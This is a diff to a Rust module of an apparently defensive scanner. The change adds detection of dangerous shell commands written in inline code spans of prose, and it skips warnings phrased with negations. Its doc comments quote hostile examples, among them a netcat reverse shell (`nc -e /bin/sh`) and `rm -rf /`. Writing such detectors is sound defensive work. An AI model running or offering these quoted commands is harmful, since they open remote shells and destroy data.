@@ -4,8 +4,10 @@
 //! danger in prose: a sentence may well name `sudo` or `rm -rf /` to warn against them.
 
 use super::{Found, MAX_PER_COMMAND, Place, emit};
-use crate::analysis::runnable::{Code, Setting, runnable_blocks};
-use crate::analysis::shell::{Language, dangers, downloads_in_prose, script_dangers};
+use crate::analysis::runnable::{Code, Setting, looks_like_command, runnable_blocks};
+use crate::analysis::shell::{
+    DangerKind, Dialect, Language, dangers, downloads_in_prose, script_dangers,
+};
 use crate::diagnostics::Diagnostic;
 use crate::formats::texts::Text;
 
@@ -55,6 +57,7 @@ pub(super) fn check<'t>(text: &'t Text<'t>, out: &mut Vec<Diagnostic>, found: &m
         if fence.step(line) || in_block {
             continue;
         }
+        code_spans(text, base, line, out, found);
         let found_here = downloads_in_prose(line);
         if found_here.is_empty() {
             continue;
@@ -71,6 +74,53 @@ pub(super) fn check<'t>(text: &'t Text<'t>, out: &mut Vec<Diagnostic>, found: &m
             })
             .collect();
         emit(text, 0, Place::Told, shifted, out, found);
+    }
+}
+
+/// Words that make a sentence a warning against what it names (`Never run `rm -rf ~``).
+const NEGATIONS: &[&str] = &[
+    "never",
+    "don't",
+    "do not",
+    "avoid",
+    "must not",
+    "should not",
+    "instead of",
+    "not run",
+];
+
+/// The commands a line of prose gives in code spans (`` Run `nc -e /bin/sh h 9` ``, and
+/// Claude Code's `` !`cmd` ``, run before the model reads the skill). A download run is
+/// left to the reading of the whole line, and `sudo` to code blocks: prose names both in
+/// passing.
+fn code_spans<'t>(
+    text: &'t Text<'t>,
+    base: usize,
+    line: &str,
+    out: &mut Vec<Diagnostic>,
+    found: &mut Found<'t>,
+) {
+    if !line.contains('`') {
+        return;
+    }
+    let mut at = 0;
+    for (i, piece) in line.split('`').enumerate() {
+        let start = at;
+        at += piece.len() + 1;
+        if i % 2 == 0 || !looks_like_command(piece) {
+            continue;
+        }
+        let before = line[..start.saturating_sub(1)].to_ascii_lowercase();
+        let sentence = before
+            .rsplit(['.', '!', '?', ':'])
+            .next()
+            .unwrap_or(&before);
+        if NEGATIONS.iter().any(|n| sentence.contains(n)) {
+            continue;
+        }
+        let mut dangers = dangers(piece, Dialect::Posix);
+        dangers.retain(|d| !matches!(d.kind, DangerKind::DownloadExecute | DangerKind::Privileged));
+        emit(text, base + start, Place::Told, dangers, out, found);
     }
 }
 
